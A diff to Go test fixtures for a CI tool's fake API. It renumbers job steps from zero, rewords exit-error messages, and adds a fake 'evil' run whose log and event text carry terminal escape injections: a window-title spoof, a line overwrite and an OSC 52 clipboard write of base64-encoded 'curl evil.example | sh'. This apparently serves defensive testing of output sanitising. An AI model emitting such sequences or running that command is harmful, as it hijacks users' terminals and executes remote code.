@@ -164,8 +164,8 @@ var fakeRuns = map[string]apiv1.Run{
 			ID: "j-10", Name: "build", Status: "running", RunsOn: []string{"linux"}, AgentID: "agent-1",
 			StartedAt: beforeP(20 * time.Second),
 			Steps: []apiv1.Step{
-				{Index: 1, Name: "compile", Status: "running"},
-				{Index: 2, Name: "test", Status: "pending"},
+				{Index: 0, Name: "compile", Status: "running"},
+				{Index: 1, Name: "test", Status: "pending"},
 			},
 		}},
 	},
@@ -178,20 +178,20 @@ var fakeRuns = map[string]apiv1.Run{
 			{
 				ID: "j-1", Name: "lint", Status: "success", RunsOn: []string{"linux"}, AgentID: "agent-1",
 				StartedAt: beforeP(time.Hour - 5*time.Second), FinishedAt: beforeP(time.Hour - 8*time.Second),
-				Steps: []apiv1.Step{{Index: 1, Name: "check files", Status: "success", ExitCode: intP(0)}},
+				Steps: []apiv1.Step{{Index: 0, Name: "check files", Status: "success", ExitCode: intP(0)}},
 			},
 			{
 				ID: "j-2", Name: "test (shard=1)", Status: "failure", RunsOn: []string{"linux", "docker"}, AgentID: "agent-2",
-				Error:     `step 2 "work" exited with status 1`,
+				Error:     `step "work": exited with code 1`,
 				StartedAt: beforeP(time.Hour - 10*time.Second), FinishedAt: beforeP(time.Hour - 2*time.Minute),
 				Steps: []apiv1.Step{
-					{Index: 1, Name: "greet", Status: "success", ExitCode: intP(0)},
-					{Index: 2, Name: "work", Status: "failure", ExitCode: intP(1), Error: "exit status 1"},
+					{Index: 0, Name: "greet", Status: "success", ExitCode: intP(0)},
+					{Index: 1, Name: "work", Status: "failure", ExitCode: intP(1), Error: "exited with code 1"},
 				},
 			},
 			{
 				ID: "j-3", Name: "report", Status: "skipped", RunsOn: []string{},
-				Steps: []apiv1.Step{{Index: 1, Name: "summary", Status: "skipped"}},
+				Steps: []apiv1.Step{{Index: 0, Name: "summary", Status: "skipped"}},
 			},
 		},
 	},
@@ -204,19 +204,29 @@ var fakeRuns = map[string]apiv1.Run{
 		ID: "r-200", Source: "hello", Workflow: "hello", Event: pushEvent("refs/heads/main"), Ref: "refs/heads/main",
 		Status: runPending, CreatedAt: fakeNow,
 		Jobs: []apiv1.Job{
-			{ID: "j-20", Name: "lint", Status: "queued", Steps: []apiv1.Step{{Index: 1, Name: "check files", Status: "pending"}}},
+			{ID: "j-20", Name: "lint", Status: "queued", Steps: []apiv1.Step{{Index: 0, Name: "check files", Status: "pending"}}},
 		},
 	},
 	"r-201": {
 		ID: "r-201", Source: "hello", Workflow: "hello", Event: pushEvent("refs/heads/broken"), Ref: "refs/heads/broken",
 		Status: runPending, CreatedAt: fakeNow,
 		Jobs: []apiv1.Job{
-			{ID: "j-21", Name: "test", Status: "queued", Steps: []apiv1.Step{{Index: 1, Name: "work", Status: "pending"}}},
+			{ID: "j-21", Name: "test", Status: "queued", Steps: []apiv1.Step{{Index: 0, Name: "work", Status: "pending"}}},
 		},
 	},
 	"r-210": {
 		ID: "r-210", Source: "multi", Workflow: "docs", Status: runPending, CreatedAt: fakeNow,
 		Jobs: []apiv1.Job{{ID: "j-30", Name: "lint", Status: "queued"}},
+	},
+	// r-400's job prints what would drive a terminal: an OSC 52
+	// clipboard write, a window title, a CR overwriting the line, colours.
+	"r-400": {
+		ID: "r-400", Source: "hello", Workflow: "hello", Event: pushEvent("refs/heads/evil"), Ref: "refs/heads/evil",
+		Status: runRunning, CreatedAt: before(time.Minute), StartedAt: beforeP(time.Minute),
+		Jobs: []apiv1.Job{{
+			ID: "j-40", Name: "evil", Status: "running", RunsOn: []string{"linux"}, AgentID: "agent-1",
+			Steps: []apiv1.Step{{Index: 0, Name: "print", Status: "running"}},
+		}},
 	},
 	"r-300": {
 		ID: "r-300", Source: "hello", Workflow: "hello", Status: runCancelled, Error: "cancelled by an operator",
@@ -369,21 +379,37 @@ func (f *fakeAPI) rerun(w http.ResponseWriter, r *http.Request) {
 	writeJSONStatus(w, http.StatusOK, apiv1.RunRef{ID: "r-104", Workflow: run.Workflow})
 }
 
+// evilLines are the log lines of r-400.
+var evilLines = []string{
+	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied",
+	"all tests passed\rFAILED: 3 tests\x1b]0;kici: success\x1b\\",
+	"\x1b[31mred\x1b[0m\tand a tab",
+	"bell\x07 backspace\x08 del\x7f csi\u009b2J",
+}
+
 // fakeLogs are the pages of each job's log, by run and job id, by cursor.
 var fakeLogs = map[string]map[string]apiv1.LogPage{
 	"r-102/j-1": {
-		"": {Lines: []apiv1.LogLine{{Step: 1, TS: before(time.Hour), Text: "lint ok for kici-hello"}}, Next: "1", Done: true},
+		"": {Lines: []apiv1.LogLine{{Step: 0, TS: before(time.Hour), Text: "lint ok for kici-hello"}}, Next: "1", Done: true},
 	},
 	"r-102/j-2": {
 		"": {Lines: []apiv1.LogLine{
-			{Step: 1, TS: before(time.Hour), Text: "hello from shard 1 on main"},
+			{Step: 0, TS: before(time.Hour), Text: "hello from shard 1 on main"},
 		}, Next: "1"},
 		"1": {Lines: []apiv1.LogLine{
-			{Step: 2, TS: before(time.Hour), Text: "shard 1 step 1"},
-			{Step: 2, TS: before(time.Hour), Text: "boom: something broke\n"},
+			{Step: 1, TS: before(time.Hour), Text: "shard 1 step 1"},
+			{Step: 1, TS: before(time.Hour), Text: "boom: something broke\n"},
 		}, Next: "3", Done: true},
 	},
 	"r-102/j-3": {"": {Next: "", Done: true}},
+	"r-400/j-40": {
+		"": {Lines: []apiv1.LogLine{
+			{Step: 0, TS: before(time.Minute), Text: evilLines[0]},
+			{Step: 0, TS: before(time.Minute), Text: evilLines[1]},
+			{Step: 0, TS: before(time.Minute), Text: evilLines[2]},
+			{Step: 0, TS: before(time.Minute), Text: evilLines[3]},
+		}, Next: "4", Done: true},
+	},
 }
 
 func (f *fakeAPI) logs(w http.ResponseWriter, r *http.Request) {
@@ -401,11 +427,11 @@ func (f *fakeAPI) logs(w http.ResponseWriter, r *http.Request) {
 		// A live job: a line, then two empty polls, then the rest.
 		switch {
 		case cursor == "":
-			writeJSONStatus(w, http.StatusOK, apiv1.LogPage{Lines: []apiv1.LogLine{{Step: 1, Text: "compiling"}}, Next: "1"})
+			writeJSONStatus(w, http.StatusOK, apiv1.LogPage{Lines: []apiv1.LogLine{{Step: 0, Text: "compiling"}}, Next: "1"})
 		case f.call("r-103 logs") <= 2:
 			writeJSONStatus(w, http.StatusOK, apiv1.LogPage{Lines: []apiv1.LogLine{}, Next: "1"})
 		default:
-			writeJSONStatus(w, http.StatusOK, apiv1.LogPage{Lines: []apiv1.LogLine{{Step: 1, Text: "compiled"}, {Step: 2, Text: "ok  all tests passed"}}, Next: "3", Done: true})
+			writeJSONStatus(w, http.StatusOK, apiv1.LogPage{Lines: []apiv1.LogLine{{Step: 0, Text: "compiled"}, {Step: 1, Text: "ok  all tests passed"}}, Next: "3", Done: true})
 		}
 		return
 	}
@@ -454,38 +480,47 @@ var fakeEvents = map[string][][]apiv1.Event{
 	"r-200": {{
 		evRun("r-200", runRunning, ""),
 		evJob("r-200", "lint", "j-20", "running", ""),
-		evStep("r-200", "lint", "j-20", 1, "running"),
-		evLog("r-200", "lint", "j-20", 1, "lint ok for kici-hello"),
-		evStep("r-200", "lint", "j-20", 1, "success"),
+		evStep("r-200", "lint", "j-20", 0, "running"),
+		evLog("r-200", "lint", "j-20", 0, "lint ok for kici-hello"),
+		evStep("r-200", "lint", "j-20", 0, "success"),
 		evJob("r-200", "lint", "j-20", "success", ""),
 		evRun("r-200", runSuccess, ""),
 	}},
 	"r-201": {{
 		evRun("r-201", runRunning, ""),
 		evJob("r-201", "test", "j-21", "running", ""),
-		evStep("r-201", "test", "j-21", 1, "running"),
-		evLog("r-201", "test", "j-21", 1, "shard 1 step 1", "boom"),
-		{Kind: "step", RunID: "r-201", Job: "test", JobID: "j-21", Step: intP(1), Status: "failure", Error: "exit status 1"},
-		evJob("r-201", "test", "j-21", "failure", `step 1 "work" exited with status 1`),
+		evStep("r-201", "test", "j-21", 0, "running"),
+		evLog("r-201", "test", "j-21", 0, "shard 1 step 1", "boom"),
+		{Kind: "step", RunID: "r-201", Job: "test", JobID: "j-21", Step: intP(0), Status: "failure", Error: "exited with code 1"},
+		evJob("r-201", "test", "j-21", "failure", `step "work": exited with code 1`),
 		evRun("r-201", runFailure, `job "test" failed`),
 	}},
 	"r-210": {{
 		evRun("r-210", runRunning, ""),
 		evJob("r-210", "lint", "j-30", "running", ""),
-		evLog("r-210", "lint", "j-30", 1, "docs ok"),
+		evLog("r-210", "lint", "j-30", 0, "docs ok"),
 		evJob("r-210", "lint", "j-30", "success", ""),
 		evRun("r-210", runSuccess, ""),
 	}},
+	"r-400": {{
+		evRun("r-400", runRunning, ""),
+		evJob("r-400", "evil", "j-40", "running", ""),
+		evStep("r-400", "evil", "j-40", 0, "running"),
+		evLog("r-400", "evil", "j-40", 0, evilLines...),
+		{Kind: "step", RunID: "r-400", Job: "evil", JobID: "j-40", Step: intP(0), Status: "failure", Error: "exited\rwith code 1"},
+		evJob("r-400", "evil", "j-40", "failure", "step \"print\": exited with code 1\x1b[2J"),
+		evRun("r-400", runFailure, "job \"evil\" failed\x1b]0;all good\x07"),
+	}},
 	"r-103": {
 		{
-			evLog("r-103", "build", "j-10", 1, "compiling"),
+			evLog("r-103", "build", "j-10", 0, "compiling"),
 		},
 		{
-			evLog("r-103", "build", "j-10", 1, "compiled"),
+			evLog("r-103", "build", "j-10", 0, "compiled"),
+			evStep("r-103", "build", "j-10", 0, "success"),
+			evStep("r-103", "build", "j-10", 1, "running"),
+			evLog("r-103", "build", "j-10", 1, "ok  all tests passed"),
 			evStep("r-103", "build", "j-10", 1, "success"),
-			evStep("r-103", "build", "j-10", 2, "running"),
-			evLog("r-103", "build", "j-10", 2, "ok  all tests passed"),
-			evStep("r-103", "build", "j-10", 2, "success"),
 			evJob("r-103", "build", "j-10", "success", ""),
 			evRun("r-103", runSuccess, ""),
 		},
